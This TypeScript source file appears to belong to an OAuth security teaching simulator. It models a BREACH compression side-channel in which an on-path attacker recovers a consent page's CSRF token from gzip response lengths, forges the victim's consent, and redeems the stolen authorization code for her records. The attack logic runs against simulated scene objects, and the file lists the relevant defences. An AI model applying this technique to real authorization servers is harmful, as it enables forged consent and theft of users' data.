import { redirectTarget } from '../../../client/page-visitor.js'
import type { Step } from '../../../flows/step.js'
import type { Exchange } from '../../../protocol/http/exchange.js'
import { encodeForm } from '../../../protocol/http/form.js'
import { codeRequest } from '../code-request.js'
import type { Refusal } from '../defence.js'
import { type Attack, planned } from '../model.js'
import { authorizationUrl, parameterOf } from '../moves.js'
import { CODE_ARRIVAL, THEFT_BY_OWN_CLIENT } from '../planned-steps.js'
import { quizEntry, quizPart } from '../quiz.js'
import { stealRecords } from '../records-theft.js'
import type { Scene } from '../scene.js'
import { HONEST_LOGIN, honestLogin } from '../victim.js'
import { recover } from './recover.js'

/** The parameter that a careless page repeats, beside its form. */
const REPEATED = 'campaign'

/** Ends of the text before the value, and the length of the value in characters: 32 bytes in base64url. */
const PREFIXES = ['srf value=', 'csrf value=', 'f value=']
const LENGTH = 43

/** Equal requests before the first guess: a value that changes shows in the lengths. */
const EQUAL = 6

/** Most values that are guessed: a few differences between lengths are too small to be read. */
const TRIALS = 6

/** Characters between two steps that report progress. */
const REPORTED = 8

/** The pages that alice's browser loads for the attacker, and their lengths on the wire. */
function pages({ victim }: Scene, url: string, bait: Exchange) {
  let count = 0
  const load = async (echoed: string): Promise<Exchange> => {
    count += 1
    const address = `${url}&${encodeForm([[REPEATED, echoed]])}`
    return victim.open(address, { from: bait, coding: 'gzip' })
  }
  const measure = async (echoed: string) => (await load(echoed)).wireBytes.response
  return { load, measure, count: () => count }
}

/** The csrf value that the lengths of pages give away, as far as they do. */
async function* guessed(
  scene: Scene,
  url: string,
  bait: Exchange,
): AsyncGenerator<Step, string | undefined, void> {
  const { step } = scene
  const { load, measure, count } = pages(scene, url, bait)
  const equal: Exchange[] = []
  while (equal.length < EQUAL) equal.push(await load('the-same'))
  const lengths = [...new Set(equal.map(each => each.wireBytes.response))]
  const samePages = lengths.length === 1
  const note = samePages
    ? `${EQUAL} equal requests, ${EQUAL} pages of ${lengths[0]} bytes`
    : `${EQUAL} equal requests, pages of ${lengths.join(', ')} bytes: the value is another one each time`
  yield step('guess', { exchange: equal[0]!, note, repeats: true })
  if (!samePages) return undefined
  const search = recover({ prefixes: PREFIXES, length: LENGTH, measure })
  for (;;) {
    const { value, done } = await search.next()
    if (done) return value ?? ''
    if (value.length % REPORTED === 0) {
      yield step('guess', { note: `${value}…, after ${count()} pages`, repeats: true })
    }
  }
}

/** Sends the consent form with a guessed value. Begins again with another request, whose value is another one, after a wrong guess. */
async function* submitted(
  scene: Scene,
  bait: Exchange,
  parameters: Readonly<Record<string, string>>,
): AsyncGenerator<Step, Exchange, void> {
  for (let trial = 1; ; trial++) {
    const url = authorizationUrl(scene, { ...parameters, state: `trial-${trial}` })
    const csrf = yield* guessed(scene, url, bait)
    const form = [
      ['csrf', csrf ?? ''],
      ['consent', 'allow'],
    ] as const
    if (csrf === '' && trial < TRIALS) continue
    const sent = await scene.victim.post(url, form, bait)
    const refused = redirectTarget(sent) === undefined
    const again = refused && csrf !== undefined && trial < TRIALS
    const note = 'the page sends the form of the consent page'
    yield scene.step('injection', { exchange: sent, note, ...(again && { repeats: true }) })
    if (!again) return sent
  }
}

async function* run(scene: Scene): AsyncGenerator<Step, Refusal | undefined, void> {
  const { victim, pathUrl, catcher, step } = scene
  yield* honestLogin(scene)
  const bait = await victim.open(`${pathUrl}/news`)
  yield step('lure', { exchange: bait, note: 'plain http: the attacker answers in the place of the host' })

  const { parameters, redeem } = codeRequest(scene, catcher.client, catcher.address)
  const sent = yield* submitted(scene, bait, parameters)
  const target = redirectTarget(sent)
  if (target === undefined || !target.startsWith(catcher.address)) return scene.refusal(sent)
  yield step('code_arrival', { exchange: (await victim.follow(sent))! })
  const code = parameterOf(target, 'code')
  if (code === undefined) return scene.refusal(sent)

  return yield* stealRecords(scene, redeem(code))
}

/** A csrf value read from the lengths of compressed pages, and a consent that nobody gave. */
export const breach: Attack = {
  name: 'breach',
  title: 'a csrf value read from the lengths of compressed pages',
  rule: 'RFC 9110 §17.6',
  weak: ['no-mask'],
  opened: { 'no-mask': { stolen: true } },
  starts: [
    'The attacker is on the path: they see the length of every encrypted answer, and answer plain http for any host (A2 in RFC 9700 §3).',
    'The attacker has registered a client of their own, as anybody may.',
    'Alice is logged in at the authorization server, and opens any page over plain http. Her browser offers gzip.',
  ],
  steals: 'records of alice',
  defences: [{ check: 'csrf', rule: 'RFC 6749 §10.12' }],
  wouldNotHelp: [
    'TLS: it hides the text of a page, and not its length',
    'SameSite cookies: plain http of the same host is the same site for many browsers',
    'exact redirect addresses, PKCE and state: the client is the attacker’s own',
  ],
  compression: true,
  clients: site => [quizEntry(site)],
  running: quizPart,
  noWindow: 'the attacker counts bytes, and real browsers add their own',
  plan: [
    HONEST_LOGIN,
    planned(
      'lure',
      ['user_agent', 'attacker'],
      'GET http://…/news',
      '9700 §3',
      'Alice opens a page over plain http. The attacker answers it, under the name of the host.',
    ),
    planned(
      'guess',
      ['user_agent', 'authorization_server'],
      'GET /authorization, many times',
      '9110 §17.6',
      'The page has her browser load the consent page with guesses. The attacker counts the bytes of the answers.',
    ),
    planned(
      'injection',
      ['user_agent', 'authorization_server'],
      'POST /authorization',
      '6749 §10.12',
      'The page sends the consent form with the value that was read. The server must not believe it.',
    ),
    CODE_ARRIVAL,
    ...THEFT_BY_OWN_CLIENT,
  ],
  run,
}
